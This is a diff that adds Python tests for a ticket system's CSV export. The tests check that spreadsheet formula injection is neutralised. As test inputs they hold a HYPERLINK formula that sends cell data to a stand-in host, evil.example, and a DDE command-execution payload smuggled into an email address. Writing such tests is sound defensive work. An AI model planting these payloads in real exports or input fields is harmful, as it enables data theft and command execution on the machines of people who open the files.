@@ -153,3 +153,58 @@ async def test_the_export_pages_by_key_and_misses_no_ticket(store):
     assert len(pieces) == 5  # 21 tickets in pages of 5: four full pages and one of 1
     rows = list(csv.reader(io.StringIO("".join(pieces).lstrip("\ufeff"))))
     assert len({row[0] for row in rows[1:]}) == 21
+
+
+# --- formulas in cells (review of issue 22) ----------------------------------------------------
+
+FORMULA_NUMBER = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+FORMULA_EMAIL = "=cmd|'/Ccalc'!A0@example.com"
+
+
+async def order_with_formulas(harness) -> None:
+    """The review's inputs: an order number from the shop and an invitation address that a
+    spreadsheet would run as formulas."""
+    document = sample_document(tickets=2)
+    document["orders"][0]["number"] = FORMULA_NUMBER
+    for position, ticket in enumerate(document["orders"][0]["tickets"], start=1):
+        ticket["ref"] = f"+T-{position}" if position == 2 else f"T-{position}"
+    await harness.import_orders(document)
+    async with harness.store.read() as session:
+        ids = dict((await session.execute(select(Ticket.ref, Ticket.id))).all())
+    buyer = harness.user(BUYER, "Zoé", "Lefèvre", language_code="fr")
+    await buyer.start(await harness.order_link(FORMULA_NUMBER))
+    await services.invite_friend(harness.store, BUYER, ids["T-1"], FORMULA_EMAIL)
+
+
+def assert_no_formula(rows: list[list[str]]) -> None:
+    by_ref = {row[0]: row for row in rows[1:]}
+    assert set(by_ref) == {"T-1", "'+T-2"}
+    assert by_ref["T-1"][1] == "'" + FORMULA_NUMBER
+    assert by_ref["T-1"][5] == "'" + FORMULA_EMAIL
+    cells = [cell for row in rows for cell in row]
+    assert not any(cell.startswith(ticket_export.FORMULA_STARTS) for cell in cells)
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
+def test_each_formula_start_is_neutralised(cell):
+    assert ticket_export.spreadsheet_safe(cell) == "'" + cell
+    assert ticket_export.spreadsheet_safe("Zoé " + cell) == "Zoé " + cell
+
+
+async def test_export_neutralises_formulas_in_cells(harness):
+    await order_with_formulas(harness)
+    support = harness.user(STAFF, "Sam", "Support", language_code="fr")
+    document = (await support.send("/export fest-sat", timeout=30)).last
+    data = harness.emulator.media.content(document.media["file_id"])
+    assert_no_formula(list(csv.reader(io.StringIO(data.decode("utf-8-sig")))))
+
+
+async def test_the_http_export_neutralises_formulas_in_cells(harness):
+    await order_with_formulas(harness)
+    app = create_api(ApiServices(store=harness.store, api_token=TOKEN,
+                                 bot_username=lambda: "bot", metrics=Metrics()))
+    async with TestClient(TestServer(app)) as client:
+        response = await client.get("/api/events/fest-sat/tickets.csv",
+                                    headers={"Authorization": f"Bearer {TOKEN}"})
+        data = await response.read()
+    assert_no_formula(list(csv.reader(io.StringIO(data.decode("utf-8-sig")))))
